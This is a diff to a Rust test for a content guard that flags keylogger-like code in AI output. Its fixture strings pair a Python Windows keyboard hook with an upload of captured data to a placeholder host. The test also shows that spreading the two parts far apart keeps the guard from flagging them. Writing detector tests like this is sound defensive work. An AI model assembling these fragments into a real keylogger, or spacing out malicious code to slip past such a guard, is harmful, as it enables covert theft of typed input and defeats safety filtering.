@@ -147,25 +147,24 @@ fn block_is_latched_and_reported_by_finish() {
     assert_eq!(b.use_case, UseCase::MalwareDevelopment);
 }
 
+/// Capabilities close together are one artefact; the same two snippets separated by far more than the region
+/// count at a discount, and a hook here plus an upload 10 KB later is not the same program.
 #[test]
 fn far_apart_capabilities_count_less() {
     let g = OutputGuard::new();
-    let Some(text) = haetae_mock::defanged_artefact("keylogger") else {
-        panic!("corpus has a keylogger");
-    };
-    // The same capabilities, but the hook and the exfiltration separated by far more than the region of filler
-    // prose: the discount keeps the keylogger rule below its threshold.
-    let (head, tail) = text.split_at(text.find("def report").unwrap_or(text.len() / 2));
-    let filler = "This paragraph is unrelated text about weather and cooking. ".repeat(400);
-    let far = format!("{head}\n{filler}\n{tail}");
-    let mut sc = g.scanner();
-    let near = g.scan_whole(text);
-    assert!(near.is_some());
-    let v = sc.push(&far).or_else(|| sc.finish());
-    // Either passes, or blocks with less confidence than the compact artefact.
-    if let (Some(v), Some(near)) = (v, near) {
-        assert!(v.confidence <= near.confidence);
-    }
+    let hook = "```python\nimport ctypes\nuser32 = ctypes.windll.user32\n\
+                hook = user32.SetWindowsHookExA(WH_KEYBOARD_LL, proc, None, 0)  # removed\n```\n";
+    let upload = "```python\nimport requests\ndef ship(buf):\n    \
+                  requests.post('https://x.example.invalid/removed', data=buf)\n```\n";
+    let near = format!("{hook}\n{upload}");
+    assert_eq!(
+        g.scan_whole(&near).map(|b| b.rule_id),
+        Some("output.keylogger".to_string())
+    );
+    let filler = "Unrelated notes about the weather and the garden. ".repeat(220);
+    assert!(filler.len() > REGION as usize);
+    let far = format!("{hook}\n{filler}\n{upload}");
+    assert_eq!(g.scan_whole(&far), None);
 }
 
 fn split_points(len: usize) -> impl Strategy<Value = Vec<usize>> {
